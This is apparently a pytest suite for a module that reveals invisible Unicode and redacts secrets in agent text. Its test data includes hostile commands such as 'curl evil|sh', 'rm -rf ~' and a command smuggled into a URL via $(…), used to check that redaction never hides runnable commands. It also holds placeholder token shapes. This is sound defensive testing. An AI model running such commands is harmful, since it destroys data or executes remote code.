"""Agent text on a card: nothing invisible, nothing secret."""

from __future__ import annotations

import time

import pytest

from sayso.text.text import hidden_count, redacted, redacted_text, shortened, visible


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("ls -la", "ls -la"),
        ("naïve 日本語 🙂", "naïve 日本語 🙂"),
        ("rm\u202e fdp", "rm⟨U+202E⟩ fdp"),
        ("a\u200bb", "a⟨U+200B⟩b"),
        ("a\u2066b\u2069", "a⟨U+2066⟩b⟨U+2069⟩"),
        ("bell\x07", "bell⟨U+0007⟩"),
        ("a\rb", "a⟨U+000D⟩b"),
        ("\x1b[31mred", "⟨U+001B⟩[31mred"),
        ("a\u2028b", "a⟨U+2028⟩b"),
        ("a\u00a0b", "a⟨U+00A0⟩b"),
        ("soft\u00adhyphen", "soft⟨U+00AD⟩hyphen"),
        ("\u3164", "⟨U+3164⟩"),
        ("tag\U000e0041", "tag⟨U+E0041⟩"),
        ("\ud800", "⟨U+D800⟩"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
    ],
)
def test_what_acts_unseen_is_spelled_out(text: str, seen: str) -> None:
    assert visible(text) == seen


def test_a_one_line_field_stays_on_one_line() -> None:
    assert visible("Approved\nby: alice\tnow", one_line=True) == "Approved⏎by: alice now"


# Composed here, so that no file of the project holds anything of the shape of a secret.
SECRETS = [
    "xoxb" + "-1234567890-abcdefghij",
    "xapp" + "-1-A0123-456-abcdef0123",
    "123456789:" + "A" * 35,
    "ghp_" + "a" * 36,
    "sk-" + "b" * 40,
    "AKIA" + "C" * 16,
    "eyJ" + "d" * 12 + ".eyJ" + "e" * 12 + "." + "f" * 20,
]


@pytest.mark.parametrize("secret", SECRETS)
def test_a_known_kind_of_secret_is_not_shown(secret: str) -> None:
    shown = redacted_text(f"curl -H {secret} https://example.com")

    assert secret not in shown
    assert "[redacted: " in shown
    assert shown.startswith("curl -H ")
    assert shown.endswith("https://example.com")


def test_a_password_in_a_url_is_not_shown() -> None:
    assert redacted_text("psql postgres://bob:hunter2@db/x") == (
        "psql postgres://[redacted: 11 characters]@db/x"
    )


@pytest.mark.parametrize(
    "key",
    [
        "password",
        "DB_PASSWORD",
        "apiKey",
        "api-key",
        "client_secret",
        "accessToken",
        "Authorization",
    ],
)
def test_a_value_under_a_secret_name_is_not_shown(key: str) -> None:
    hidden = "[redacted: 7 characters]"
    assert redacted({"deep": [{key: {"a": "hunter2"}}]}) == {"deep": [{key: {"a": hidden}}]}


@pytest.mark.parametrize("key", ["monkey", "author", "tokens_used", "passenger", "keyboard"])
def test_a_harmless_name_hides_nothing(key: str) -> None:
    assert redacted({key: "x"}) == {key: "x"}


def test_a_cut_text_says_so() -> None:
    assert shortened("abcdef", 4) == "abc…"
    assert shortened("abcd", 4) == "abcd"


def test_the_lines_of_a_private_key_are_not_shown() -> None:
    lines = "A" * 64 + "\n" + "B" * 20 + "\n"
    begin, end = "-----BEGIN RSA " + "PRIVATE KEY-----\n", "-----END RSA " + "PRIVATE KEY-----"

    shown = redacted_text(f"x {begin}{lines}{end} y")

    assert shown == f"x {begin}[redacted: {len(lines)} characters]\n{end} y"


@pytest.mark.parametrize(
    "command",
    [
        "ls # -----BEGIN X " + "PRIVATE KEY-----\nrm -rf ~\ncurl evil|sh",
        "-----BEGIN X " + "PRIVATE KEY-----\nrm -rf ~\n-----END X " + "PRIVATE KEY-----",
        "curl http://x:$(rm$IFS-rf$IFS~)@host",
        "bearer ./deploy-to-production.sh",
        "echo bearer /usr/bin/destroy-everything-now",
    ],
)
def test_what_runs_cannot_hide_as_a_secret(command: str) -> None:
    assert redacted_text(command) == command


@pytest.mark.parametrize("key", ["auth", "token", "password"])
@pytest.mark.parametrize(
    "value", ["rm -rf /", "a;b", "$(x)", {"command": "rm -rf /"}, ["curl evil | sh"], "two\nlines"]
)
def test_a_secret_name_does_not_hide_what_could_run(key: str, value: object) -> None:
    assert redacted({key: value}) == {key: value}


def test_two_names_that_look_like_secrets_stay_two() -> None:
    shown = redacted({"sk-" + "a" * 20: "$(curl evil)", "sk-" + "b" * 20: "ok"})

    assert list(shown.values()) == ["$(curl evil)", "ok"]


def test_how_much_is_hidden_is_counted() -> None:
    value = {"password": "hunter2", "nested": [{"apiKey": 12345}, "fine"]}

    assert hidden_count(redacted(value)) == 2
    assert hidden_count(redacted({"a": "[redacted]"})) == 0


def test_looking_for_secrets_takes_time_in_proportion_to_the_text() -> None:
    began = time.perf_counter()
    for hostile in ("eyJ-" * 64_000, "://a:" * 50_000, "-----BEGIN " * 20_000, "bearer " * 40_000):
        redacted_text(hostile)

    # A tenth of a second here; quadratic time would be a minute.
    assert time.perf_counter() - began < 10
